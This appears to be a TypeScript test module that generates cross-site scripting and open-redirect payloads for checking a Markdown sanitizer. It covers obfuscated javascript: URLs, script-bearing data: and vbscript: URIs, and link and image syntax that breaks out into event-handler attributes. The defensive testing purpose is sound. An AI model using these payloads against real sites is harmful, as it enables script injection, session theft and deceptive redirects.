import { some, type Trick } from "./trick.ts";

/** Addresses that run, or that lead somewhere else than they seem to, in the spellings that filters forget. */
export const addresses: readonly Trick[] = [
  ({ js }) => `javascript:${js}`,
  ({ js }) => `JaVaScRiPt:${js}`,
  ({ js }) => `java\tscript:${js}`,
  ({ js }) => `javascript\t:${js}`,
  ({ js }) => `\u0001javascript:${js}`,
  ({ js }) => `\u001f\u0002javascript:${js}`,
  ({ js }) => `&#106;avascript:${js}`,
  ({ js }) => `&#0000106avascript:${js}`,
  ({ js }) => `&#x6A;&#x61;&#x76;&#x61;script&colon;${js}`,
  ({ js }) => `java&Tab;script&colon;${js}`,
  ({ js }) => `java&NewLine;script:${js}`,
  ({ js }) => `&#1;javascript:${js}`,
  ({ js }) => `%6aavascript:${js}`,
  ({ js }) => `javascript%3a${js}`,
  ({ js }) => `javascript://evil.test/%0a${js}`,
  ({ js }) => `javascript:/*--></title></style></textarea></script>*/${js}`,
  ({ js }) => `javascript:void(0)?x:${js}`,
  ({ js }) => `jav\u00adascript:${js}`,
  ({ js }) => `\u200bjavascript:${js}`,
  ({ js }) => `\u00a0javascript:${js}`,
  ({ js }) => `\ufeffjavascript:${js}`,
  ({ js }) => `ｊａｖａｓｃｒｉｐｔ：${js}`,
  ({ js }) => `feed:javascript:${js}`,
  ({ js }) => `view-source:javascript:${js}`,
  ({ js }) => `vbscript:execute(${js})`,
  ({ js }) => `livescript:${js}`,
  ({ js }) => `data:text/html,<script>${js.replaceAll("=", "%3D")}</script>`,
  ({ js }) => `data:text/html;base64,${btoa(`<script>${js}</script>`)}`,
  ({ js }) => `data:image/svg+xml,<svg/onload=${js}>`,
  ({ js }) => `DATA:text/html;charset=utf-7,+ADw-script+AD4-${js}`,
  ({ away }) => away,
  ({ away }) => `\\\\${away.slice(2)}`,
  ({ away }) => `/\\${away.slice(2)}`,
  ({ away }) => `/\t/${away.slice(2)}`,
  ({ away }) => `https:${away.slice(2)}`,
  ({ away }) => `blob:https:${away}`,
  ({ away }) => `filesystem:https:${away}`,
  ({ away }) => `file:${away}`,
  ({ away }) => `ftp:${away}`,
  ({ away }) => `ws:${away}`,
  ({ away }) => `intent:${away}#Intent;scheme=https;end`,
  ({ n }) => `/sign-out?xss=${n}`,
  ({ n }) => `?xss=${n}#composer`,
];

/** How somebody writes a link, an image, or something that Markdown makes one of. */
const forms: readonly ((address: string, n: number) => string)[] = [
  (address) => `[look](${address})`,
  (address) => `[look](<${address}> "at this")`,
  (address, n) => `[look][r${n}]\n\n[r${n}]: ${address} 'at this'`,
  (address) => `![look](${address})`,
  (address) => `<${address}>`,
  (address) => `[![look](${address})](${address})`,
  (address) => `<a href="${address}">look</a>`,
  (address, n) => `[r${n}]\n\n[r${n}]: <${address}>`,
];

/** Each address in one of the forms, all forms in turn. */
export const links: readonly Trick[] = addresses.map((address, turn): Trick => {
  const [form] = some(forms, 1, turn);
  return (act) => form?.(address(act), act.n) ?? "";
});

/** Links whose address is sound and whose other parts are not. */
export const linkParts: readonly Trick[] = [
  ({ js }) => `[x](https://a.test "onmouseover=${js}")`,
  ({ js }) => `[x](https://a.test "&quot; onmouseover=${js} x=&quot;")`,
  ({ js }) => `[x](https://a.test/"onmouseover="${js})`,
  ({ js }) => `[x](https://a.test/'onmouseover='${js})`,
  ({ js }) => `[x](https://a.test/><img/src=x/onerror=${js}>)`,
  ({ js }) => `[x](https://a.test 'a"><img src=x onerror=${js}>')`,
  ({ js }) => `[x](https://a.test (</a><img src=x onerror=${js}>))`,
  ({ js }) => `[<img src=x onerror=${js}>](https://a.test)`,
  ({ js }) => `[x\\](javascript:${js})`,
  ({ js }) => `[x]\n(javascript:${js})`,
  ({ js }) => `[x](https://a.test\n"onclick=${js}")[y](javascript:${js})`,
  ({ js }) => `![x" onerror="${js}](x)`,
  ({ js }) => `![x](x" onerror="${js})`,
  ({ away }) => `![x](https:${away}.gif)`,
  ({ away }) => `![x][p]\n\n[p]: https:${away}.gif "x"`,
  ({ js }) => `https://a.test/"onmouseover="${js}`,
  ({ js }) => `http://a.test/<script>${js}</script>`,
  ({ js }) => `mailto:x@a.test?body=<img/src=x/onerror=${js}>`,
  ({ js }) => `<https://a.test/"onclick=${js}//>`,
  ({ js }) => `javascript://a.test/%0a${js} http://javascript:${js}@a.test`,
];
